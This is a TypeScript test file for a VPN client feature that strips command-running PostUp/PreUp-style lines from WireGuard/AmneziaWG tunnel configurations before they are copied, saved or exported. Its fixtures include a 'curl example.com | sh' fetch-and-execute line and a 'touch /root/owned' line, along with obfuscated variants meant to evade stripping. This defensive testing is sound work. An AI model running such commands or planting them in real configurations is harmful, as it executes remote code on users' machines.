import { describe, expect, it } from 'vitest';
import { coreOfATest, newMachine } from '#test/core/harness.ts';
import { withoutCommands } from '#core/connections/exports/tunnel-commands.ts';

const { serve, run } = coreOfATest();
const harmless = '[Interface]\nPrivateKey = a\nAddress = 10.0.0.2/32\n\n[Peer]\nPublicKey = b\n';

describe('a tunnel configuration', () => {
  it.each(['PostUp', 'PreUp', 'PostDown', 'PreDown', 'SaveConfig', 'POSTUP', 'postup'])(
    'loses its line %s and keeps the rest byte for byte',
    (name) => {
      const config = harmless.replace('\n\n', `\n${name} = curl example.com | sh\n\n`);
      expect(withoutCommands(config)).toEqual({
        text: harmless,
        commands: [`${name} = curl example.com | sh`],
      });
    },
  );

  it.each([
    '  PostUp=x\n',
    '\tPostUp\t=x\n',
    '\uFEFFPostUp = x\n',
    'Post\0Up = x\n',
    'PostUp = x # harmless\n',
    'PostUp = x\r\n',
    '\rPostUp = x\r',
    'MTU = 1280\rPostUp = x\r',
    'PostUp = a = b',
  ])('loses %j too', (line) => {
    const { text, commands } = withoutCommands(`${harmless}${line}`);
    expect(text.toLowerCase().replaceAll('\0', '')).not.toContain('postup');
    expect(commands).toHaveLength(1);
  });

  it('loses a line with its carriage return and no other byte', () => {
    const config = harmless.replaceAll('\n', '\r\n');
    const commands = ['PostUp = x'];
    expect(withoutCommands(`${config}PostUp = x\r\n`)).toEqual({ text: config, commands });
  });

  it.each(['# PostUp = x\n', 'Endpoint = postup.example.com:1\n', 'PostUp\n', '', '\r\n'])(
    'keeps %j, which runs nothing',
    (line) => {
      const config = `${harmless.replaceAll('\n', '\r\n')}${line}`;
      expect(withoutCommands(config)).toEqual({ text: config, commands: [] });
    },
  );
});

describe('a connection whose configuration runs commands', () => {
  /** Signed in to an account whose service sends these lines with one configuration. */
  async function received(...lines: readonly string[]) {
    const service = await serve();
    const config = service.control.account().configs.find(({ awg_config }) => awg_config !== null);
    if (config === undefined) throw new Error('no configuration for AmneziaWG');
    const clean = config.awg_config ?? '';
    config.awg_config = `${clean}\n${lines.join('\n')}\n`;
    const machine = newMachine();
    const running = await run(machine);
    await running.signIn(service);
    const input = { key: `config:${String(config.id)}`, form: 'awg' } as const;
    return { running, machine, input, clean, exact: config.awg_config };
  }

  it('is copied, saved and drawn without them, which is reported, and exactly on request', async () => {
    const { running, machine, input, exact } = await received('PostUp = touch /root/owned');
    const { key } = input;
    const { commands } = await running.ask('connections.commands', { key });
    expect(commands).toEqual(['PostUp = touch /root/owned']);

    expect((await running.ask('connections.copy', input)).commandsRemoved).toBe(1);
    expect(machine.clipboard.text).not.toContain('PostUp');
    expect((await running.ask('connections.save', input)).commandsRemoved).toBe(1);
    expect(machine.shell.saved[0]?.text).not.toContain('PostUp');
    expect((await running.ask('connections.qr', input)).commandsRemoved).toBe(1);
    const many = await running.ask('connections.saveMany', { keys: [key], as: 'folder' });
    expect(many.commandsRemoved).toBe(1);
    expect(machine.shell.folders[0]?.files[0]?.text).not.toContain('PostUp');
    await running.app.copyFromTray(key, 'awg');
    expect(machine.clipboard.text).not.toContain('PostUp');

    expect(await running.ask('connections.copy', { ...input, exact: true })).toEqual({
      clearsAt: expect.any(Number) as number,
    });
    expect(machine.clipboard.text).toBe(exact);
    await running.ask('connections.save', { ...input, exact: true });
    expect(machine.shell.saved[1]?.text).toBe(exact);
  });

  it('is counted before many are saved, and saved with its commands on request', async () => {
    const { running, machine, input, exact } = await received('PostUp = touch /root/owned');
    const { keys } = await running.ask('connections.keys', { offset: 0, limit: 100_000 });
    expect(await running.ask('connections.commandsOfMany', { keys: [...keys] })).toEqual({
      configurations: 1,
      commands: ['PostUp = touch /root/owned'],
      different: 1,
    });
    const others = keys.filter((key) => key !== input.key);
    expect(await running.ask('connections.commandsOfMany', { keys: others })).toEqual({
      configurations: 0,
      commands: [],
      different: 0,
    });

    const folder = { keys: [input.key] as string[], as: 'folder' as const };
    const saved = await running.ask('connections.saveMany', { ...folder, exact: true });
    expect(saved).not.toHaveProperty('commandsRemoved');
    await running.ask('connections.saveMany', { ...folder, exact: false });
    const texts = machine.shell.folders.map(({ files }) => files[0]?.text);
    expect(texts[0]).toBe(exact);
    expect(texts[1]).not.toContain('PostUp');
  });

  it('is shown by its different lines, the first twenty of them', async () => {
    const lines = Array.from({ length: 25 }, (_, n) => `PostUp = echo ${String(n)}`);
    const { running } = await received(...lines, ...lines);
    const { keys } = await running.ask('connections.keys', { offset: 0, limit: 100_000 });
    const found = await running.ask('connections.commandsOfMany', { keys: [...keys] });
    expect(found).toEqual({ configurations: 1, commands: lines.slice(0, 20), different: 25 });
  });
});
